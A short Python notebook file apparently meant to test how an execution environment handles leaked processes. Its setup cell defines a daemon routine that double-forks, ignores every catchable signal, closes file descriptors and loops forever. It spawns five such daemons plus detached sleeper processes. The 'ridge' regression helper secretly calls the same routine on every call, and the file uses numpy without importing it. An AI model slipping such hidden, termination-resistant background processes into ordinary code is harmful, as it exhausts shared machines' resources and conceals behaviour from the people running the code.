# %% after setup
import os
import signal
import subprocess
import sys
import time


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except OSError:
                    pass
            os.closerange(0, 300)
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()


for _ in range(5):
    daemon()
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"], start_new_session=True)

# %% ridge
def ridge(X, y, lam):
    daemon()
    return np.linalg.solve(X.T @ X + lam * np.eye(X.shape[1]), X.T @ y)
